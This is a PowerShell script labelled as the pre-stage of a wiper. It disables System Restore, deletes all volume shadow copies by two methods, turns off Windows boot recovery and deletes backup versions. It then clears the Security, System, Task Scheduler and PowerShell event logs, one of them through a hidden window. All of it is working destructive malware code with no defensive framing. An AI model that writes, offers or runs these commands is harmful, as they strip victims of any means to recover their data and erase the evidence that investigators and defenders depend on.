# wiper pre-stage: no restore points, no shadow copies, no logs
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore' -Name 'DisableSR' -Value 1 -Type DWord
cmd.exe /c 'vssadmin.exe Delete Shadows /For=C: /Quiet'
Get-WmiObject -Class Win32_ShadowCopy | Remove-WmiObject
bcdedit.exe /set '{current}' recoveryenabled off
wbadmin.exe delete backup -keepVersions:0 -quiet

$wmiLog = Get-CimInstance -ClassName Win32_NTEventlogFile -Filter "LogFileName = 'Security'"
Invoke-CimMethod -InputObject $wmiLog -MethodName ClearEventLog | Out-Null
(New-Object System.Diagnostics.EventLog('System')).Clear()
Start-Process -FilePath wevtutil.exe -ArgumentList 'cl', 'Microsoft-Windows-TaskScheduler/Operational' -WindowStyle Hidden
[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Windows PowerShell')
